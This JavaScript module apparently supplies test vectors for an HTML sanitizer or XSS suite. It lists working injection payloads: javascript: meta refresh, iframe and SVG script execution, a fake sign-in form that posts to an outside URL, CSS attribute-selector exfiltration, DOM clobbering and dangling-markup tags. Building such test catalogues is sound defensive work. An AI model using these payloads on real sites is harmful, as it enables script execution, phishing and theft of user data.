import { base64, entities, vectors } from './vector';

const page = vectors('element', {
  'meta refresh': (_, url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  'meta refresh to code': (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  'meta policy': () => '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  'meta cookie': () => '<meta http-equiv="Set-Cookie" content="a=b">',
  'meta referrer': () => '<meta name="referrer" content="unsafe-url">',
  'meta charset': () => '<meta charset="utf-7">+ADw-script+AD4-',
  base: (_, url) => `<base href="${url}/" target="_blank">`,
  'link to styles': (_, url) => `<link rel="stylesheet" href="${url}">`,
  'link that loads ahead': (_, url) =>
    `<link rel="preload" as="image" href="${url}" imagesrcset="${url} 1x">`,
  'link that fetches ahead': (_, url) =>
    `<link rel="prefetch" href="${url}"><link rel="prerender" href="${url}">`,
  'link that looks a name up': (_, url) =>
    `<link rel="dns-prefetch" href="${url}"><link rel="preconnect" href="${url}">`,
  'link to a module': (_, url) => `<link rel="modulepreload" href="${url}">`,
  'link to an icon': (_, url) =>
    `<link rel="icon" href="${url}"><link rel="manifest" href="${url}">`,
  'link with a handler': (js) =>
    `<link rel="stylesheet" href="/none" onerror="${js}" onload="${js}">`,
  'link to a part': (_, url) => `<link rel="import" href="${url}">`,
  'title of the page': () => '<title>Taken over</title>',
  'form for a password': (_, url) =>
    `<form action="${url}" method="post"><input name="email"><input type="password"><button>Sign in</button></form>`,
  'field of another form': (_, url) => `<button form="search" formaction="${url}">Search</button>`,
  'nested forms': (_, url) =>
    `<form id="a"><div></form><form action="${url}"><input name="parentNode">`,
  'frame with a page': (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  'frame with a coded page': (js) =>
    `<iframe srcdoc="${entities(`<script>parent.${js}</script>`)}"></iframe>`,
  'frame with a data page': (js) =>
    `<iframe src="data:text/html;base64,${base64(`<script>parent.${js}</script>`)}"></iframe>`,
  'frame over the page': (_, url) =>
    `<iframe src="${url}" sandbox="allow-scripts" name="self"></iframe>`,
  'fenced frame': (_, url) =>
    `<fencedframe src="${url}"></fencedframe><portal src="${url}"></portal>`,
  'web view': (_, url) =>
    `<webview src="${url}"></webview><layer src="${url}"></layer><ilayer src="${url}">`,
  'object with a drawing': (js) =>
    `<object data="data:image/svg+xml,<svg onload=parent.${js}>"></object>`,
  'island of data': (js) => `<xml id="x"><a>&lt;img src=/none onerror=${js}&gt;</a></xml>`,
  'open dialog': (_, url) =>
    `<dialog open><form action="${url}"><button>OK</button></form></dialog>`,
  'shadow root': (js) =>
    `<div><template shadowrootmode="open"><img src="/none" onerror="${js}"></template></div>`,
  slot: (js) => `<slot name="a" onslotchange="${js}"></slot>`,
  'custom element': (js) => `<x-evil onclick="${js}" data-code="${js}">a</x-evil>`,
  'customised element': () => '<p is="x-evil">a</p>',
  'edited box': () =>
    '<div contenteditable="true" tabindex="1" accesskey="s" draggable="true">a</div>',
  'part of ours': () =>
    '<p part="a" slot="b" exportparts="c" nonce="d" itemprop="e" hidden inert>a</p>',
  'sign for scripts': (js) =>
    `<p data-react-root data-action="${js}" data-hx-get="/x" x-init="${js}" v-html="${js}" @click="${js}">a</p>`,
});

const styles = vectors('style', {
  'sheet that fetches': (_, url) =>
    `<style>@import "${url}"; p { background: url(${url}) }</style>`,
  'sheet that reads fields': (_, url) =>
    `<style>input[value^="a"] { background: url(${url}) } @font-face { font-family: x; src: url(${url}) }</style>`,
  'sheet in a drawing': (_, url) => `<svg><style>*{background:url(${url})}</style></svg>`,
  'attribute that fetches': (_, url) => `<p style="background:url(${url})">a</p>`,
  'attribute that fetches, escaped': (_, url) => `<p style="b\\61 ckground:\\75rl(${url})">a</p>`,
  'attribute that fetches by image-set': (_, url) =>
    `<p style="background:image-set('${url}' 1x)">a</p>`,
  'attribute that covers the page': (_, url) =>
    `<a href="${url}" style="position:fixed;inset:0;z-index:9999;opacity:0">a</a>`,
  'attribute that computes': (js) =>
    `<p style="width:expression(${js});behavior:url(x);-moz-binding:url(x)">a</p>`,
  'list that fetches': (_, url) => `<ul style="list-style-image:url(${url})"><li>a</li></ul>`,
  'cursor that fetches': (_, url) => `<p style="cursor:url(${url}),auto">a</p>`,
  'class of ours': () => '<p class="skip visuallyHidden noPrint">a</p>',
  'old colours': () => '<font color="red" face="x" size="7"><center>a</center></font>',
});

const names = vectors('name', {
  'of the address': () => '<p id="location">a</p><a name="location">a</a>',
  'of the document': () => '<form id="document" name="document"><input name="cookie"></form>',
  'of its methods': () =>
    '<img name="getElementById"><img name="querySelector"><img name="createElement">',
  'of its body': () => '<form name="body"><input name="firstChild"></form>',
  'of the framework': () => '<a id="__next_f"></a><a id="__next"></a><a id="__NEXT_DATA__"></a>',
  'of our own parts': () => '<p id="main">a</p><p id="search">b</p>',
  'of a collection': () => '<a id="clobbered">a</a><a id="clobbered" name="x" href="#y">b</a>',
  'of a frame': () => '<iframe name="clobbered" srcdoc="<a id=x>"></iframe>',
  'of a prototype': () =>
    '<p id="__proto__">a</p><p id="constructor">b</p><p name="toString">c</p>',
  'by a map': (_, url) =>
    `<map name="clobbered" id="clobbered"><area href="${url}"></map><img usemap="#clobbered">`,
  'by an object': () => '<object id="clobbered" name="self"></object><embed name="clobbered">',
  'as a target of labels': () =>
    '<label for="search">a</label><p aria-labelledby="main" role="alert">b</p>',
});

const open = vectors(
  'element',
  {
    'unclosed form': (_, url) => `<form action="${url}"><input name="a">`,
    'unclosed link that swallows the page': (_, url) => `<a href="${url}"><div>`,
    'unclosed quote that takes the page along': (_, url) => `<img src="${url}?`,
    'unclosed single quote that takes the page along': (_, url) => `<img src='${url}?`,
    'unclosed area of text that takes the page along': (_, url) =>
      `<form action="${url}"><button>a</button><textarea name="a">`,
    'unclosed choice': (_, url) => `<form action="${url}"><select name="a"><option>`,
    'unclosed styles': (_, url) => `<style>*{background:url(${url})}`,
    'unclosed title': () => '<title>',
    'unclosed frame': () => '<iframe>',
    'unclosed frameless text': () => '<noframes><noembed>',
    'unclosed plain text': () => '<plaintext>',
    'unclosed template': () => '<template><div>',
    'unclosed comment': () => '<!-- a',
    'unclosed base': (_, url) => `<base href="${url}`,
  },
  true,
);

export const ELEMENTS = [...page, ...styles, ...names, ...open];
